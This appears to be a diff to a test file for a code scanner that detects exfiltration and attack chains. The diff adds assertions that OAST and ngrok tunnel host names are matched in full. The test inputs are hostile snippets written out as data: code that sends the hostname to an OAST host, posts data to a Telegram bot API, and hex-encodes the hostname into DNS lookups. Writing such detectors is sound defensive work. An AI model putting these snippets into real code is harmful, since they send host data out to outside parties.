@@ -172,6 +172,9 @@ describe('exfiltration and attack chains', () => {
   });
   it('OAST hosts, Telegram, DNS names built from data', () => {
     expect(codes(js("require('https').get('https://x.oast.fun/' + require('os').hostname())"))).toContain('oast_host');
+    // the whole host name is the match, from the start of its run of name characters
+    expect(js("fetch('https://a-1.b.c9xyz.oastify.com/p')").findings.find((f) => f.code === 'oast_host')?.match).toBe('a-1.b.c9xyz.oastify.com');
+    expect(js("fetch('http://'+'ab.ngrok-free.app')").findings.find((f) => f.code === 'tunnel_host')?.match).toBe('ab.ngrok-free.app');
     expect(codes(py({ 'a.py': 'requests.post("https://api.telegram.org/bot123:abc/sendMessage", data=d)\n' }))).toContain('telegram_bot_api');
     expect(codes(js("const dns = require('dns'); dns.lookup(hex(os.hostname()) + '.x.example', () => {})"))).toContain('js_dns_exfiltration');
     expect(codes(js("const dns = require('dns'); dns.lookup(host, cb)"))).not.toContain('js_dns_exfiltration');
